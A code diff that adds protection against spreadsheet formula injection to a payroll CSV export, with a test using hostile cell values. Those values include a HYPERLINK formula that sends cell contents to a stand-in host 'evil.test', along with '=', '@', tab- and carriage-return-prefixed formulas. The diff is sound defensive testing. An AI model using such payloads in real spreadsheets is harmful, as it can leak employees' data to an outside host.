@@ -20,6 +20,13 @@
 use super::engine::{DayRow, NightShifts, Report, ReportSource, RoundingScope};
 use super::optional_columns::{self, Cell, OptionalColumn};
 use serde::{Deserialize, Serialize};
+use timebridge_core::spreadsheet_text::text_cell;
+
+/// A text cell from people's data (numbers, e-mails, names, absence reasons): never a live formula
+/// when payroll opens the file. Durations and counts do not go through here and stay numbers.
+fn text(s: &str) -> String {
+    text_cell(s).into_owned()
+}
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, specta::Type)]
 pub enum HoursFormat {
@@ -191,7 +198,7 @@ pub fn write(report: &Report, o: &CsvOptions) -> Result<Vec<u8>, String> {
         let total_row = |w: &mut csv::Writer<&mut Vec<u8>>, label: &str, key: &str, s: &Sum| {
             let mut rec: Vec<String> = vec![
                 label.into(),
-                key.into(),
+                text(key),
                 String::new(),
                 String::new(),
                 String::new(),
@@ -234,8 +241,8 @@ pub fn write(report: &Report, o: &CsvOptions) -> Result<Vec<u8>, String> {
         let time = |m: i64| show(unit(m, o.hours), o);
         for (i, r) in report.rows.iter().enumerate() {
             let mut rec: Vec<String> = vec![
-                r.employee_number.clone(),
-                r.email.clone().unwrap_or_default(),
+                text(&r.employee_number),
+                text(r.email.as_deref().unwrap_or_default()),
                 r.date.clone(),
                 r.iso_week.clone(),
                 r.first_in.clone().unwrap_or_default(),
@@ -245,12 +252,12 @@ pub fn write(report: &Report, o: &CsvOptions) -> Result<Vec<u8>, String> {
                 time(r.lunch_minutes),
                 time(r.net_minutes),
                 time(r.lunch_outside_minutes),
-                r.absences.join(" | "),
+                text(&r.absences.join(" | ")),
                 if r.open_session { "yes" } else { "no" }.into(),
-                r.zone.clone(),
+                text(&r.zone),
             ];
             if with_protime {
-                rec.push(r.name.clone().unwrap_or_default());
+                rec.push(text(r.name.as_deref().unwrap_or_default()));
                 match &r.protime {
                     Some(p) => rec.extend([
                         time(p.normal_minutes),
@@ -441,6 +448,58 @@ mod tests {
             extra_columns: Vec::new(),
         };
         assert!(lines(&write(&r, &dot).unwrap())[1].contains(",0.02,"));
+    }
+
+    /// Every cell of the CSV that a spreadsheet would read as a formula, other than the durations
+    /// (negative ones begin with `-` and must stay numbers).
+    fn live_formulas(bytes: &[u8]) -> Vec<String> {
+        let text = std::str::from_utf8(bytes)
+            .unwrap()
+            .trim_start_matches('\u{feff}');
+        let mut r = csv::ReaderBuilder::new()
+            .delimiter(b';')
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(text.as_bytes());
+        let duration = |c: &str| {
+            let c = c.strip_prefix('-').unwrap_or(c);
+            let (h, m) = c.split_once(':').unwrap_or(("", ""));
+            !h.is_empty() && h.bytes().all(|b| b.is_ascii_digit()) && m.len() == 2
+        };
+        r.records()
+            .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+            .filter(|c| timebridge_core::spreadsheet_text::is_formula_like(c) && !duration(c))
+            .collect()
+    }
+
+    #[test]
+    fn hostile_text_cells_are_not_formulas_and_durations_stay_numbers() {
+        let mut ann = row("=1+1", "2025-02-10", 480, 0);
+        ann.email = Some("=HYPERLINK(\"http://evil.test/\"&A1,\"open\")".into());
+        ann.absences = vec!["-sick; leave".into()];
+        ann.name = Some("@SUM(A1:A9)".into());
+        ann.difference_minutes = Some(-15);
+        let mut bob = row("+32", "2025-02-10", 60, 0);
+        bob.email = Some("\t=2+2@x.test".into());
+        bob.zone = "\r=3+3".into();
+        let mut r = report(vec![ann, bob]);
+        r.source = ReportSource::Merged;
+        let bytes = write(&r, &CsvOptions::default()).unwrap();
+        assert_eq!(live_formulas(&bytes), Vec::<String>::new());
+        let text = String::from_utf8(bytes).unwrap();
+        assert!(text.contains("'=HYPERLINK("), "the e-mail is kept, as text");
+        assert!(text.contains("Total;'=1+1;"), "the total row's key too");
+        assert!(
+            text.contains("\"'-sick; leave\""),
+            "quoted, apostrophe first"
+        );
+        assert!(text.contains("'@SUM(A1:A9)"));
+        assert!(
+            text.contains(";-0:15;"),
+            "a negative duration stays a number"
+        );
+        // The control test: without neutralising, the checker does see these cells.
+        assert_eq!(live_formulas(b"=1+1;-0:15;@x\r\n").len(), 2);
     }
 
     #[test]
